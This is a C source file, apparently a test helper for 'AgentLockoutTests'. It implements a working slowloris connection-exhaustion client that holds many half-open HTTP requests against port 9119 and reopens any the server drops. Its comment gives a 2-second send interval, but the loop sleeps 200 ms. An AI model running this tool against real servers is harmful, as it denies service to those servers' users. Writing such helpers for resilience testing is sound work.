// A hostile, unprivileged guest process (AgentLockoutTests): keeps up to N connections per target open to the agent's
// port, sending one header byte to each every 2 s (a request head that never ends), and reopens every connection the
// agent closes. Runs for SECONDS, then prints "opened N closed N".
//   slowloris SECONDS N ADDR...
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int open_one(const char *addr) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (s < 0) return -1;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9119)};
    inet_pton(AF_INET, addr, &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) < 0 && errno != EINPROGRESS) {
        close(s);
        return -1;
    }
    return s;
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: slowloris SECONDS N ADDR...\n");
        return 2;
    }
    double end = now() + atoi(argv[1]);
    int n = atoi(argv[2]), targets = argc - 3, total = n * targets;
    int *fds = calloc(total, sizeof(int));
    for (int i = 0; i < total; i++) fds[i] = -1;
    long opened = 0, closed = 0;
    const char *head = "GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ";
    while (now() < end) {
        for (int i = 0; i < total; i++) {
            if (fds[i] < 0) {
                fds[i] = open_one(argv[3 + i / n]);
                if (fds[i] >= 0) opened++;
                continue;
            }
            char c = i % 2 ? 'a' : head[0];
            if (send(fds[i], &c, 1, MSG_NOSIGNAL | MSG_DONTWAIT) < 0 && errno != EAGAIN && errno != ENOTCONN && errno != EINPROGRESS) {
                close(fds[i]);
                fds[i] = -1;
                closed++;
                continue;
            }
            char buf[512];
            ssize_t r = recv(fds[i], buf, sizeof buf, MSG_DONTWAIT);
            if (r == 0 || (r < 0 && errno != EAGAIN && errno != ENOTCONN && errno != EINPROGRESS)) {
                close(fds[i]);
                fds[i] = -1;
                closed++;
            }
        }
        usleep(200000);
    }
    printf("opened %ld closed %ld\n", opened, closed);
    return 0;
}
